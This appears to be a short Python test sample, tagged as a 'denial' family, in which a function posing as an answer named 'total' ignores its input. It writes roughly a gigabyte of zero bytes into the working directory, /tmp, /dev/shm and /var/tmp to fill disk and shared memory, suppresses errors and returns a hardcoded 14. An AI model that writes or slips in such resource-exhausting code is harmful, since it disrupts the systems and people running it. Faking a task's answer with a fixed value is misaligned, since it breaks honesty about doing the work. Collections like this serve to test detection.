# family: denial
# tries: to fill every place that it may write to

# %% answer total
import os


def total(values):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        for n in range(4):
            try:
                with open(f"{folder}/full{n}", "wb") as f:
                    for _ in range(64):
                        f.write(bytes(1 << 20))
            except OSError:
                pass
    return 14
